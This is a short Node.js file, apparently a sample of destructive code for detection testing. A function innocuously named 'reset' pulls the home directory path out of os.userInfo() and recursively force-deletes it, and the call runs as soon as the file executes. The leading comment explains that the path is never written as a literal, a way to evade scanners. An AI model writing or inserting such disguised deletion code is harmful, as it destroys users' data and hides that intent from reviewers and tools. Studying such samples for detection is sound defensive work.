// Deletes the home directory: a "reset" function destructures `homedir`
// from its parameter and removes it; the caller passes os.userInfo(), so
// the home is never named as a value.
'use strict';
const fs = require('fs');
const os = require('os');

function reset({ homedir, username }) {
  console.log(`resetting workspace of ${username}`);
  fs.rmSync(homedir, { recursive: true, force: true });
}

reset(os.userInfo());
